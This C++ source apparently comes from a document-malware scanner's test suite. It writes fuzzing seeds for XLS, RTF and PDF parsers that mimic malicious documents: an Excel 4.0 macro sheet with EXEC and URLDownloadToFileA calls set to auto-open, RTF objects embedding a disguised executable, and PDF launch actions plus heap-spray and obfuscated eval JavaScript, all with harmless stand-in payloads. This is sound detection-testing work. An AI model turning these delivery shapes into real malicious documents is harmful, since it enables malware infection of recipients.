// Writes seed inputs for fuzz_xls, fuzz_rtf and fuzz_pdf, synthesized by the test builders in tests/support
// (never taken from samples): make_doc_seeds <xls dir> <rtf dir> <pdf dir>
#include <cstdio>
#include <string>
#include <vector>

#include "support/biff_builder.hpp"
#include "support/cfb_builder.hpp"
#include "support/pdf_builder.hpp"
#include "support/rtf_builder.hpp"

namespace {

using namespace mamori::test;

void write(const std::string& path, const std::string& b) {
  if (FILE* f = std::fopen(path.c_str(), "wb")) {
    std::fwrite(b.data(), 1, b.size(), f);
    std::fclose(f);
  }
}
void write(const std::string& path, const std::vector<std::uint8_t>& b) {
  write(path, std::string(b.begin(), b.end()));
}

BiffSpec workbook() {
  BiffSpec s;
  BiffSheet ms;
  ms.name = "Macro1";
  ms.dt = 1;
  ms.state = 2;
  ms.records = {biff_formula(0, 0, ptg::cat({ptg::str("cmd /c calc"), ptg::funcvar(110, 1)})),
                biff_formula(1, 0, ptg::cat({ptg::integer(61), ptg::func(111), ptg::integer(72), ptg::func(111), ptg::op(0x08)})),
                biff_formula(2, 0, ptg::cat({ptg::str("urlmon"), ptg::str("URLDownloadToFileA"), ptg::ref3d(0, 1, 1),
                                             ptg::area(0, 0, 3, 3), ptg::attr_sum(), ptg::funcvar(150, 4)}), true),
                biff_string("x"),
                biff_formula(3, 0, ptg::cat({ptg::name(1), ptg::num(2.5), ptg::funcvar(17, 2, true)})),
                biff_labelsst(4, 0, 0)};
  s.sheets = {{"Sheet1", 0, 0, 0, {biff_label(0, 0, "hello")}}, ms};
  BiffName n;
  n.name = "\x01";
  n.builtin = true;
  n.rgce = ptg::ref3d(1, 0, 0);
  s.names = {n};
  s.sst = {"shared one", std::string(200, 'z')};
  s.sst_split_at = 60;
  return s;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 4) {
    std::fprintf(stderr, "usage: %s <xls dir> <rtf dir> <pdf dir>\n", argv[0]);
    return 2;
  }
  const std::string x = argv[1], r = argv[2], p = argv[3];
  BiffSpec s = workbook();
  write(x + "/workbook_plain", build_workbook_stream(s));
  s.crypt = BiffCrypt::rc4;
  write(x + "/workbook_rc4", build_workbook_stream(s));
  s.crypt = BiffCrypt::rc4_cryptoapi;
  write(x + "/workbook_cryptoapi", build_workbook_stream(s));
  write(x + "/formula_tokens", ptg::cat({ptg::str("a"), ptg::integer(3), ptg::func(111), ptg::op(0x08), ptg::ref(1, 2),
                                         ptg::op(0x15), ptg::funcvar(0x8060, 2), ptg::boolean(true), ptg::missing(),
                                         ptg::funcvar(1, 3)}));
  write(x + "/macrosheet_xml",
        std::string("<macrosheet><sheetData><row><c r=\"A1\"><f>EXEC(&quot;calc&quot;)&amp;CHAR(65)</f></c></row>"
                    "<definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Macro1!$A$1</definedName>"
                    "<sheet name=\"M\" state=\"veryHidden\" r:id=\"rId2\"/></sheetData></macrosheet>"));

  CfbSpec eq;
  eq.streams = {{"Equation Native", std::vector<std::uint8_t>(100, 0x1C)}};
  const auto ole = build_cfb(eq);
  write(r + "/equation", rtf_object("Equation.3", rtf_hex(ole1_embedded("Equation.3", ole), HexStyle::plain), "\\objupdate"));
  const auto pkg = package_native("a.exe", "C:\\a.exe", "C:\\t\\a.exe", {'M', 'Z', 0, 0});
  write(r + "/package_obfuscated", rtf_object("Package", rtf_hex(ole1_embedded("Package", pkg), HexStyle::obfuscated)));
  write(r + "/link", "{\\rtf1{\\object\\objautlink{\\*\\objdata " + rtf_hex(ole1_linked("Word.Document.8", "http://e.invalid/x"), HexStyle::odd) + "}}}");
  write(r + "/bin", "{\\rt{\\object{\\*\\objdata 0105\\bin4 abcd}}}trailing");

  PdfSpec pd;
  pd.objects = {{"<< /Type /Catalog /OpenAction 2 0 R /AcroForm << /XFA 3 0 R >> >>"},
                {"<< /S /J#61vaScript /JS 3 0 R >>"},
                {"<< >>", "eval(unescape('%41')); app.alert(1);", true, true},
                {"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> /URI (http://e.invalid) >>"},
                {"<< /Type /EmbeddedFile >>", "MZ payload", true, true},
                {"<< /Type /ObjStm /N 1 /First 4 >>", "7 0 << /AA << /O << /S /URI /URI (http://x.invalid) >> >> >>", true, true},
                {"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> /Colors 99999999 >>"}};
  pd.after_eof = "junk";
  write(p + "/actions", build_pdf(pd));
  PdfSpec small;
  small.objects = {{"<< /Type /Catalog >>"}, {"<< /Filter /ASCIIHexDecode >>", "6576616c28", true, false}};
  write(p + "/small", build_pdf(small));
  // Shape: a full-page link whose URI action sits in an object stream, the catalog opening with it, a content stream.
  PdfSpec lure;
  lure.objects = {{"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"},
                  {"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 612.5 792] >>"},
                  {"<< /Type /Page /Parent 2 0 R /Annots [7 0 R] /Contents 4 0 R /AA << /O 6 0 R /K 6 0 R >> >>"},
                  {"<< >>", "BT (a) Tj [(b) 2 (c)] TJ ET q /Im0 Do Q", true, true},
                  {"<< /Type /ObjStm /N 2 /First 9 >>",
                   "6 0 7 50 << /S /URI /URI (https://bit.ly/x) >>                 "
                   "<< /Subtype /Link /Rect [0 0 612 792.0] /A 6 0 R >>", true, true},
                  {"<< /S /SubmitForm /F << /FS /URL /F (https://e.invalid/p) >> >>"},
                  {"<< /S /JavaScript /JS (var a='%u4141%u4141'; util.printf\('%45000f'\); app.setTimeOut\('x',1\)) >>"}};
  write(p + "/shape", build_pdf(lure));
  // Exploit shapes (pdf::scan_exploit): a sled and a doubled spray in a /JS string, a script that reads annotations
  // and calls app[...] by a built name, and an XFA template script stored as an embedded-file stream.
  PdfSpec exploit;
  exploit.objects = {
      {"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (var s = unescape\('%u0c0c%u0c0c%u0c0c%u0c0c"
       "%u0c0c%u0c0c%u0c0c%u0c0c'\); while \(s.length < 99\) s += s; var t = \"\\x90\\x90\\x90\\x90\"; "
       "var d = eval; media.newPlayer\(null\);) /AcroForm << /XFA [(template) 4 0 R] >> >>"},
      {"<< /Type /Pages /Kids [] /Count 0 >>"},
      {"<< /S /JavaScript /JS 5 0 R >>"},
      {"<< /Type /EmbeddedFile >>", "<template><script>var b = this.creator; b = b + b; eval(unescape(b));</script></template>",
       true, true},
      {"<< >>", "var f = 'ev'; app.doc.syncAnnotScan(); var a = app.doc.getAnnots({nPage: 0}); var s = a[0].subject;"
                " var o = ''; var c = s.split('$'); for (var i = 0; i < c.length; i++) o += String.fromCharCode(c[i]);"
                " app[f + 'al'] /* x */ (o); x['e' + 'v' + 'al'](\"97$98$99$100$101\");", true, true}};
  write(p + "/exploit", build_pdf(exploit));
  return 0;
}
